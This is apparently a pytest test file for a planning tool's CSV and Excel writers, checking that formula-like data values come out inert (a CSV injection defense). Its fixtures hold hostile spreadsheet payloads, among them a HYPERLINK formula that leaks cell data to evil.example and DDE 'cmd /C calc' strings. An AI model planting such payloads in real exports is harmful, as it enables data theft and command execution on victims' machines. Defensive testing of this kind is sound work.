"""Formula injection (OWASP "CSV injection"): data never runs as a formula in any output.

Names, ids, campuses, units and the scenario's own name that begin with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return come out of every CSV file as inert text (a leading ``'``, which
:func:`planner.io.cells.unneutralize` and ``planner check`` undo) and out of the workbook as
text cells, exactly as in the data. The data itself is preserved: the plan made from such data
re-checks clean, and every value reads back unchanged.
"""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from planner.check.checker import check_plan_dir
from planner.cli import cli
from planner.io.cells import FORMULA_PREFIXES, is_formula_like, unneutralize
from planner.io.readers import read_dataset
from planner.plan import Plan
from planner.planning import make_plan
from planner.report import render
from planner.report.write import write_plan
from planner.scenario import scenario_from_dict

TINY = Path(__file__).parent / "data" / "tiny"

# Every value below is data a spreadsheet would run as a formula if written as is.
EVIL_COLLEGE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
EVIL_COLLEGE_NAME_2 = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_CADRE_ID = "=T007"
EVIL_CADRE_ID_2 = "@T008"
EVIL_CADRE_NAME = "+86 138 0000 0000"
EVIL_CADRE_NAME_2 = "-2+3+cmd|' /C notepad'!A0"
EVIL_CLASS_ID = "-CL01+1"
EVIL_CLASS_NAME = "=1+1"  # written with a leading tab: the reader strips it, the = stays
EVIL_SOCIETY_NAME = "@文学社"  # written with a leading carriage return, likewise
EVIL_BRANCH_NAME = "+党支部"
EVIL_CAMPUS = "-番禺"
EVIL_UNIT = "=校长办公室"
EVIL_SCENARIO = "=cmd|' /C calc'!A0"

EVIL = {
    EVIL_COLLEGE_NAME,
    EVIL_COLLEGE_NAME_2,
    EVIL_CADRE_ID,
    EVIL_CADRE_ID_2,
    EVIL_CADRE_NAME,
    EVIL_CADRE_NAME_2,
    EVIL_CLASS_ID,
    EVIL_CLASS_NAME,
    EVIL_SOCIETY_NAME,
    EVIL_BRANCH_NAME,
    EVIL_CAMPUS,
    EVIL_UNIT,
}


def _rewrite(folder: Path, file: str, change: dict[str, str]) -> None:
    """Replace whole cells of ``file`` (every occurrence), keeping valid CSV quoting."""
    path = folder / file
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    rows = [[change.get(cell, cell) for cell in row] for row in rows]
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


@pytest.fixture(scope="module")
def evil_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny data set with formula-like names and ids everywhere."""
    folder = tmp_path_factory.mktemp("injection") / "data"
    shutil.copytree(TINY, folder)
    _rewrite(folder, "colleges.csv", {"文学院": EVIL_COLLEGE_NAME})
    _rewrite(folder, "colleges.csv", {"信息科学技术学院": EVIL_COLLEGE_NAME_2})
    for file in ("cadres.csv", "previous.csv", "pins.csv"):
        _rewrite(folder, file, {"T007": EVIL_CADRE_ID, "T008": EVIL_CADRE_ID_2})
    _rewrite(folder, "cadres.csv", {"刘洋": EVIL_CADRE_NAME, "陈静": EVIL_CADRE_NAME_2})
    _rewrite(folder, "cadres.csv", {"校长办公室": EVIL_UNIT})
    for file in ("classes.csv", "previous.csv"):
        _rewrite(folder, file, {"CL01": EVIL_CLASS_ID})
    _rewrite(folder, "classes.csv", {"汉语言文学2026级1班": "\t" + EVIL_CLASS_NAME})
    _rewrite(folder, "societies.csv", {"文学社": "\r" + EVIL_SOCIETY_NAME})
    _rewrite(folder, "branches.csv", {"信息学院本科生第一党支部": EVIL_BRANCH_NAME})
    for file in ("colleges.csv", "cadres.csv", "classes.csv", "dorms.csv", "societies.csv"):
        _rewrite(folder, file, {"番禺": EVIL_CAMPUS})
    _rewrite(folder, "branches.csv", {"番禺": EVIL_CAMPUS})
    return folder


@pytest.fixture(scope="module")
def evil_plan(evil_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``planner plan`` on the evil data, under a scenario with a formula-like name (no
    heatmaps: images hold no formulas)."""
    scenario = tmp_path_factory.mktemp("scenario") / "evil.yaml"
    scenario.write_text(
        f"name: \"{EVIL_SCENARIO}\"\ndescription: '@SUM(A1:A9)'\n", encoding="utf-8"
    )
    out = tmp_path_factory.mktemp("plans") / "evil"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(render, "render_heatmaps", lambda *args, **kwargs: {})
        result = CliRunner().invoke(
            cli,
            ["plan", "--data", str(evil_data), "--scenario", str(scenario), "--out", str(out)],
        )
    assert result.exit_code == 0, result.output
    return out


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_data_reads_with_every_formula_like_value(evil_data: Path) -> None:
    ds = read_dataset(evil_data)
    values = {v for t in ("colleges", "cadres", "classes", "societies", "branches") for v in
              ds.table(t).astype(str).to_numpy().ravel()}  # fmt: skip
    assert values >= EVIL


def test_no_csv_cell_is_a_formula_and_every_value_is_preserved(evil_plan: Path) -> None:
    files = sorted(evil_plan.glob("*.csv"))
    assert {p.name for p in files} >= {"assignments.csv", "uncovered.csv", "changes.csv"}
    seen: set[str] = set()
    for path in files:
        for row in _csv_cells(path):
            for cell in row:
                assert not is_formula_like(cell), (path.name, cell)
                assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(
                    r"[+-][0-9.]+", cell
                ), (path.name, cell)
                value = unneutralize(cell)
                if value != cell:
                    assert cell == "'" + value
                seen.add(value)
    assert seen >= EVIL


def test_assignments_csv_ids_round_trip(evil_plan: Path, evil_data: Path) -> None:
    frame = pd.read_csv(
        evil_plan / "assignments.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
    ).map(unneutralize)
    ids = set(frame["cadre_id"]) | set(frame["target_id"])
    assert {EVIL_CADRE_ID, EVIL_CADRE_ID_2, EVIL_CLASS_ID} <= ids
    ds = read_dataset(evil_data)
    assert ids <= set(ds.cadres["id"]) | set(ds.targets()["id"])


def test_the_plan_rechecks_clean(evil_plan: Path, evil_data: Path) -> None:
    report = check_plan_dir(read_dataset(evil_data), evil_plan)
    assert report.ok, report.violations
    result = CliRunner().invoke(cli, ["check", "--data", str(evil_data), str(evil_plan)])
    assert result.exit_code == 0, result.output


def test_no_workbook_cell_is_a_formula(evil_plan: Path) -> None:
    book_path = evil_plan / "assignments.xlsx"
    with zipfile.ZipFile(book_path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    book = openpyxl.load_workbook(book_path)
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    # Exactly the data: no apostrophe added in the workbook.
    assert seen >= EVIL | {EVIL_SCENARIO}


def test_college_sheets_are_named_safely(evil_plan: Path) -> None:
    names = openpyxl.load_workbook(evil_plan / "assignments.xlsx", read_only=True).sheetnames
    college_sheets = [n for n in names if n.startswith(("C01", "C02"))]
    assert len(college_sheets) == 2
    assert all(len(n) <= 31 and not set("[]:*?/\\") & set(n) for n in college_sheets)


def test_every_prefix_is_inert_in_both_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Tab and carriage return never survive reading, so the plan is given them directly: one
    cadre name per prefix."""
    monkeypatch.setattr(render, "render_heatmaps", lambda *args, **kwargs: {})
    plan = make_plan(read_dataset(TINY), scenario_from_dict({}))
    values = [prefix + "cmd|' /C calc'!A0" for prefix in FORMULA_PREFIXES]
    assignments = plan.assignments.copy()
    assert len(assignments) >= len(values)
    assignments.loc[: len(values) - 1, "cadre_name"] = values
    out = tmp_path / "plan"
    write_plan(Plan(**{**plan.__dict__, "assignments": assignments}), out)

    cells = [row[3] for row in _csv_cells(out / "assignments.csv")[1 : len(values) + 1]]
    assert cells == ["'" + value for value in values]
    assert [unneutralize(cell) for cell in cells] == values

    sheet = openpyxl.load_workbook(out / "assignments.xlsx").worksheets[0]  # 全部安排
    headers = [c.value for c in sheet[1]]
    column = headers.index("姓名" if "姓名" in headers else "Name") + 1
    column_cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    written = [c for c in column_cells if c.value in values]
    assert sorted(c.value for c in written) == sorted(values)  # exactly, no apostrophe
    assert all(c.data_type == "s" and c.quotePrefix for c in written)
